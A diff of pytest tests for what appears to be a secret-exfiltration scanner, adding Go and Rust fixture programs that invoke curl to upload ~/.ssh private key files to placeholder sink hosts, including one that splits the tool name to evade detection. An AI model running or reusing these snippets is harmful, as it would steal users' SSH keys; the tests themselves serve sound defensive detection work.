@@ -97,3 +97,60 @@ def test_txt_records_checked_and_printed_do_not_block(tmp_path: Path) -> None:
         'subprocess.run(["logger", out.strip()], check=False)\n'
     )
     assert blocking(tmp_path, {"lib/spf.js": js, "scripts/spf.py": py}) == {}
+
+
+# ------------------------------------------------ a network client run by a name bound to its name
+
+
+def _go_client(bind: str, local: str, field: str) -> str:
+    return (
+        "package main\n\n"
+        'import (\n\t"fmt"\n\t"os"\n\t"os/exec"\n)\n\n'
+        f"{bind}func main() {{\n"
+        "\thome, _ := os.UserHomeDir()\n"
+        f'\targs := []string{{"-s", {field}}}\n'
+        '\targs = append(args, "https://warm.sink.example.test/put")\n'
+        f"{local}"
+        "\t_ = exec.Command(tool, args...).Start()\n}\n"
+    )
+
+
+def test_go_client_name_joined_at_run_time_sending_a_key_file_blocks(tmp_path: Path) -> None:
+    go = _go_client("", '\ttool := "cu" + "rl"\n', '"-F", fmt.Sprintf("k=@%s/.ssh/id_ed25519", home)')
+    assert "SY-FLOW-001" in blocking(tmp_path, {"cmd/warm/main.go": go})
+
+
+def test_go_client_name_held_in_a_constant_sending_a_key_file_blocks(tmp_path: Path) -> None:
+    go = _go_client('const tool = "curl"\n\n', "", '"-F", fmt.Sprintf("k=@%s/.ssh/id_ed25519", home)')
+    assert "SY-FLOW-001" in blocking(tmp_path, {"cmd/warm/main.go": go})
+
+
+def test_rust_client_name_bound_with_let_sending_a_key_file_blocks(tmp_path: Path) -> None:
+    rs = (
+        "use std::process::Command;\n\n"
+        "fn main() {\n"
+        '    let bin = "curl";\n'
+        '    let home = std::env::var("HOME").unwrap();\n'
+        "    let _ = Command::new(bin)\n"
+        '        .arg("-F")\n'
+        '        .arg(format!("f=@{}/.ssh/id_rsa", home))\n'
+        '        .arg("https://sink.example.test/u")\n'
+        "        .status();\n}\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"src/main.rs": rs})
+
+
+def test_client_named_by_a_constant_downloading_into_the_home_folder_does_not_block(tmp_path: Path) -> None:
+    go = _go_client('const tool = "curl"\n\n', "", '"-o", fmt.Sprintf("%s/fonts.zip", home)')
+    rs = (
+        "use std::process::Command;\n\n"
+        "fn main() {\n"
+        '    let bin = "curl";\n'
+        '    let home = std::env::var("HOME").unwrap();\n'
+        "    let _ = Command::new(bin)\n"
+        '        .arg("-fsSLo")\n'
+        '        .arg(format!("{}/.cache/fonts.zip", home))\n'
+        '        .arg("https://github.com/rsms/inter/releases/download/v4.0/Inter-4.0.zip")\n'
+        "        .status();\n}\n"
+    )
+    assert blocking(tmp_path, {"cmd/fonts/main.go": go, "src/main.rs": rs}) == {}
